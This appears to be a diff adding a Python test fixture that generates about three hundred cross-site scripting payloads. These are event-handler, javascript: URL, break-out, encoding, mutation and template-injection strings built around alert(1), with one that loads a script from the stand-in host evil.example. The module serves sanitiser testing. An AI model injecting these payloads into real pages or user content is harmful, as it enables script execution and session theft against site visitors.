@@ -1,0 +1,86 @@
+"""Texts that would run as a script, or break out of their place, on a page that is not careful. F25."""
+
+from __future__ import annotations
+
+from itertools import islice, product
+
+_ACTIONS = ("alert(1)", "alert`1`", "confirm(1)", "top.alert(1)", "self['al'+'ert'](1)")
+_HANDLED = (
+    "<img src=x onerror={0}>",
+    "<img src=x onerror='{0}'>",
+    "<img/src/onerror={0}>",
+    "<svg onload={0}>",
+    "<svg><script>{0}</script></svg>",
+    "<svg><animate onbegin={0} attributeName=x dur=1s>",
+    "<body onload={0}>",
+    "<input autofocus onfocus={0}>",
+    "<select autofocus onfocus={0}>",
+    "<details open ontoggle={0}>",
+    "<video><source onerror={0}></video>",
+    "<audio src=x onerror={0}>",
+    "<iframe srcdoc='<script>{0}</script>'></iframe>",
+    "<iframe src=\"javascript:{0}\"></iframe>",
+    "<object data=\"javascript:{0}\"></object>",
+    "<embed src=\"javascript:{0}\">",
+    "<form action=\"javascript:{0}\"><button>go</button></form>",
+    "<math><a xlink:href=\"javascript:{0}\">x</a></math>",
+    "<a href=\"javascript:{0}\">x</a>",
+    "[x](javascript:{0})",
+    "[x](JaVaScRiPt:{0})",
+    "[x](data:text/html,<script>{0}</script>)",
+    "[x](vbscript:{0})",
+    "<script>{0}</script>",
+    "<ScRiPt>{0}</sCrIpT>",
+    "<script src=//evil.example/x.js></script>{0}",
+    "\"><script>{0}</script>",
+    "'><script>{0}</script>",
+    "</title><script>{0}</script>",
+    "</textarea><script>{0}</script>",
+    "</legend></fieldset><script>{0}</script>",
+    "\" autofocus onfocus=\"{0}",
+    "' autofocus onfocus='{0}",
+    "\" onmouseover=\"{0}\" x=\"",
+    "{{{{{0}}}}}",
+    "{{% raw %}}{{{{{0}}}}}",
+    "${{{0}}}",
+    "&lt;script&gt;{0}&lt;/script&gt;",
+    "&#60;script&#62;{0}&#60;/script&#62;",
+    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
+    "<!--><script>{0}</script>",
+    "<![CDATA[<script>{0}</script>]]>",
+    "<style>@import 'javascript:{0}';</style>",
+    "<link rel=stylesheet href=\"javascript:{0}\">",
+    "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
+    "<base href=\"javascript:{0}//\">",
+    "<template><script>{0}</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
+    "<svg><style><img src=x onerror={0}></style></svg>",
+    "<math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror={0} src>\">",
+    "<a id=main><a id=main name=dataset href=\"javascript:{0}\">",
+    "<form id=answer><input name=elements><img src=x onerror={0}>",
+    "\ufe64script\ufe65{0}\ufe64/script\ufe65",
+    "<x onclick={0}>x</x>",
+    "`${{{0}}}`",
+    "<img src=\"x\u0338\" onerror={0}>",
+    ">\u0338<img src=x onerror={0}>",
+    "<img src=x:x onerror={0}//",
+    "<<script>{0}//<</script>",
+    "<div style=\"background:url(javascript:{0})\">",
+    "<table background=\"javascript:{0}\">",
+)  # fmt: skip
+
+PAYLOADS: tuple[str, ...] = tuple(islice((shape.format(action) for action, shape in product(_ACTIONS, _HANDLED)), 305))
+"""Three hundred of them."""
+
+SHORT = (
+    "<b onclick=a()>",
+    "<script>",
+    "'\"><i>",
+    "{{7*7}}",
+    "<img src=x>",
+    "</p><h1>",
+    "&lt;b&gt;",
+    "${1}",
+    "<svg/onload=a>",
+)
+"""Those that fit into a name."""
